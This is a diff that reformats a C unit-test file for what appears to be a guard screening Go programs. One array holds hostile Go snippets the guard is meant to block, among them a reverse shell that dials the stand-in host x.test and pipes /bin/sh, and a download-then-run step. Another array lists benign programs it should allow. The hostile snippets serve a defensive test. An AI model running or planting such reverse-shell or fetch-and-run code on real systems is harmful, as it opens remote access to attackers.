@@ -220,8 +220,8 @@ static void guard_blocks_intent(void **state UNUSED)
 		"import \"syscall\"\n" MAIN("syscall.Mount(\"a\", \"b\", \"c\", 0, \"\")"),
 		"// #include <stdlib.h>\nimport \"C\"\n" MAIN("C.system(C.CString(\"ls\"))"),
 		"import _ \"unsafe\"\n//go:linkname f syscall.forkExec\nfunc f()",
-		"import (\"net\"; \"os/exec\")\n" MAIN(
-			"c, _ := net.Dial(\"tcp\", \"x.test:1\"); s := exec.Command(\"/bin/sh\"); s.Stdin = c; s.Run()"),
+		"import (\"net\"; \"os/exec\")\n" MAIN("c, _ := net.Dial(\"tcp\", \"x.test:1\"); s := "
+						       "exec.Command(\"/bin/sh\"); s.Stdin = c; s.Run()"),
 		"import (\"net/http\"; \"os/exec\")\n" MAIN(
 			"http.Get(\"https://x.test/a\"); exec.Command(\"/tmp/a\").Run()"),
 		"import (\"net/http\"; \"os\"; \"strings\")\n" MAIN(
@@ -243,7 +243,8 @@ static void guard_blocks_intent(void **state UNUSED)
 static void guard_leaves_everyday_programs_alone(void **state UNUSED)
 {
 	static const char *const everyday[] = {
-		"import \"os\"\n" MAIN("os.MkdirAll(\"a/b\", 0755); os.WriteFile(\"a/b/c\", nil, 0644); os.RemoveAll(\"a\")"),
+		"import \"os\"\n" MAIN(
+			"os.MkdirAll(\"a/b\", 0755); os.WriteFile(\"a/b/c\", nil, 0644); os.RemoveAll(\"a\")"),
 		"import \"os\"\n" MAIN("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)"),
 		"import (\"os\"; \"io\")\n" MAIN("f, _ := os.Open(os.Args[1]); io.ReadAll(f)"),
 		"import \"os/exec\"\n" MAIN("exec.Command(\"ls\", \"-l\").Output(); exec.LookPath(\"git\")"),
@@ -255,11 +256,13 @@ static void guard_leaves_everyday_programs_alone(void **state UNUSED)
 		"import \"reflect\"\n" MAIN("v := reflect.ValueOf(println); println(v.Kind(), v.NumMethod())"),
 		"import (\"net/http\"; \"net/http/httptest\")\n" MAIN(
 			"s := httptest.NewServer(nil); r, _ := http.Get(s.URL); r.Body.Close()"),
-		"import \"net\"\n" MAIN(
-			"l, _ := net.Listen(\"tcp\", \"127.0.0.1:0\"); c, _ := net.Dial(\"tcp\", l.Addr().String()); c.Close()"),
+		"import \"net\"\n" MAIN("l, _ := net.Listen(\"tcp\", \"127.0.0.1:0\"); c, _ := net.Dial(\"tcp\", "
+					"l.Addr().String()); c.Close()"),
 		"import (\"fmt\"; \"net/http\"; \"os\")\n" MAIN(
-			"http.HandleFunc(\"/etc/passwd\", nil); http.HandleFunc(\"/root/\", nil); m := http.NewServeMux(); "
-			"m.Handle(\"/dev/status\", nil); fmt.Fprintln(os.Stderr, http.ListenAndServe(\"localhost:8080\", m))"),
+			"http.HandleFunc(\"/etc/passwd\", nil); http.HandleFunc(\"/root/\", nil); m := "
+			"http.NewServeMux(); "
+			"m.Handle(\"/dev/status\", nil); fmt.Fprintln(os.Stderr, "
+			"http.ListenAndServe(\"localhost:8080\", m))"),
 		"import \"embed\"\n//go:embed static\nvar files embed.FS",
 		"//go:generate stringer -type=Pill\ntype Pill int",
 		"import \"io/ioutil\"\n" MAIN("ioutil.ReadFile(\"data.csv\")"),
